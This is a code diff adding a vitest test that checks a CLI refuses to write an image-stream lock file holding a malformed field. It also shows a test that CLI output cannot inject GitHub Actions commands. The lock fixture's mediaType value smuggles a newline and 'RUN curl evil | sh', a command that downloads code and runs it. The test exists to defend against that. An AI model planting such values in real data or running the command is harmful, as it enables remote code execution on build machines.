@@ -5,7 +5,10 @@ import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'nod
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { resolveConfig } from '../../src/config/config.js';
 import { main, processIO } from '../../src/entry/cli.js';
+import { checkedLock } from '../../src/entry/run-reconcile.js';
+import type { StreamLock } from '../../src/model/lock.js';
 import { captureIO } from '../helpers/capture-io.js';
 import {
   type HostileRegistry,
@@ -146,5 +149,34 @@ describe('CLI output inside GitHub Actions', () => {
       expect(line.trimStart().startsWith('::')).toBe(false);
       expect(line).not.toContain('##[');
     }
+  });
+});
+
+describe('the last guard before a lock is written', () => {
+  it('refuses to serialise a lock the next run could not read (LOCK_NOT_WRITTEN)', () => {
+    const lock = {
+      apiVersion: 'imagestreams.dev/v1alpha1',
+      kind: 'ImageStreamLock',
+      metadata: { name: 'app', namespace: 'default' },
+      status: {
+        tags: [
+          {
+            tag: '1',
+            items: [
+              {
+                created: '2026-01-01T00:00:00Z',
+                dockerImageReference: `r.example/app@sha256:${'a'.repeat(64)}`,
+                image: `sha256:${'a'.repeat(64)}`,
+                generation: 1,
+                mediaType: 'application/x\nRUN curl evil | sh',
+              },
+            ],
+          },
+        ],
+      },
+    } as unknown as StreamLock;
+    expect(() => checkedLock(resolveConfig({}), lock)).toThrow(
+      /refusing to write imagestreams.lock\/default\/app.json/,
+    );
   });
 });
